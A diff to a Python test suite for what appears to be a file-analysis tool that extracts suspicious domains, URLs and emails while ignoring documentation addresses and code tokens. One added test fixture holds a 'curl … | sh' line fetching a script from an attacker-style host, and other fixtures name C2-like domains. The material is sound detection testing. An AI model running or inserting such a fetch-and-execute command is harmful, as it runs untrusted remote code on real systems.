@@ -231,6 +231,7 @@ NOTES = b'\n'.join([
     b'fmt = "http://203.0.113.%d/beacon"',                  # a printf format
     b'color = Color.RED; name = obj.name; os.open',          # code
     b'run ./setup.py and deploy.sh',                         # file names
+    b'WantedBy=multi-user.target',                          # a systemd unit
     b'see https://click. and http://www and evil.notatld',  # cut-off and unknown names
     b'contact ops@kcsi-c2.net or ops@localhost',
     b'"universe_domain": "googleapis.com", "suffix": "co.uk"',  # a name of the list's private part; a suffix
@@ -249,7 +250,7 @@ def test_names_by_the_public_suffix_list():
             [('domain', 'a.mfrggzdf.tun-zone.top'), ('domain', 'x.kcsi-c2.net'), ('email', 'ops@kcsi-c2.net'),
              ('domain', 'googleapis.com')],
             ('glibc.malloc.top', 'sys.int', '203.0.113.%d', 'color.red', 'obj.name', 'os.open', 'setup.py',
-             'deploy.sh', 'click.', 'http://www', 'notatld', 'localhost', 'co.uk'))
+             'deploy.sh', 'click.', 'http://www', 'notatld', 'localhost', 'co.uk', 'multi-user'))
 
 
 def _listed(r, want, never):
@@ -294,6 +295,12 @@ def test_documentation_and_reference_text_is_not_listed():
              ('url', 'https://kcsi-wiki.net/x')],
             ('192.0.2.1', '198.51.100.7', '203.0.113.9', '2001:db8', '10.20.0.0', 'fd00:', 'python.org',
              'rfc-editor.org', 'gnu.org', 'wikipedia.org', 'example.com', 'example.org', '192.0.0.8'))
+    # a finding about the file (a script's URL in it) names that URL, not the rest of the file
+    flagged = REFERENCE_NOTES + b'\nthen curl -s https://payload.kcsi-drop.net/s.sh | sh\n'
+    r = _analyze(_counter_with('reference-flagged', files=[('/srv/notes.txt', flagged)]))
+    assert any(f['severity'] != 'low' and any(e.get('path') == '/srv/notes.txt' for e in f['evidence'])
+               for f in r['findings']), r['findings']
+    _listed(r, [('url', 'https://payload.kcsi-drop.net/s.sh')], ('python.org', 'gnu.org', '192.0.2.1', 'example.com'))
 
 
 def test_names_are_not_cut_at_piece_boundaries():
